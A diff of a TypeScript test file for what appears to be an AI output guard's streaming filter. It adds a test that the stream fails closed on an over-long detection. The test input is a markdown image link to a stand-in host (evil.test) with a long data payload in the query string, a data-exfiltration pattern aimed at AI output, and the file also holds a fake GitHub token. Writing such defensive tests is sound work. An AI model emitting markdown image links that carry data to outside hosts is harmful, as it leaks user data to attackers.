@@ -1,7 +1,12 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { createGuard, type GuardDetection } from '../../src/guard/guard.js';
-import { DEFAULT_TAIL_CHARS, type GuardStream, type StreamDecision } from '../../src/guard/stream.js';
+import {
+  DEFAULT_TAIL_CHARS,
+  MAX_HOLD_CHARS,
+  type GuardStream,
+  type StreamDecision,
+} from '../../src/guard/stream.js';
 
 const GITHUB_TOKEN = 'ghp_R4nd0mT0k3nV4lu3F0rT3st1ngAbCdEf1234';
 
@@ -152,6 +157,28 @@ describe('guard.stream', () => {
     const at = answer.indexOf('{EMAIL_1}') + 3;
     const { text } = run(g.stream('output'), [answer.slice(0, at), answer.slice(at)]);
     expect(text).toBe(`${filler.repeat(4)}Dear jane@example.com, thanks.`);
+  });
+
+  it('fails closed when one detection keeps growing past the hold limit, instead of buffering it', () => {
+    const g = createGuard({ output: { allowedDomains: [], urlAction: 'ANONYMIZE', htmlAction: 'NONE' } });
+    const stream = g.stream('output');
+    let last: StreamDecision | undefined;
+    let maxHeld = 0;
+    const pieces = [
+      'Here: ![x](https://evil.test/c?d=',
+      ...Array.from({ length: 400 }, () => 'QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo'.repeat(3)),
+    ];
+    for (const piece of pieces) {
+      last = stream.push(piece);
+      maxHeld = Math.max(maxHeld, stream.heldChars);
+      if (last.done) break;
+    }
+    expect(last).toMatchObject({
+      action: 'block',
+      done: true,
+      reason: expect.stringContaining(`${MAX_HOLD_CHARS} characters`),
+    });
+    expect(maxHeld).toBeLessThanOrEqual(MAX_HOLD_CHARS + 200);
   });
 
   it('stops a stream that grows past maxInputChars', () => {
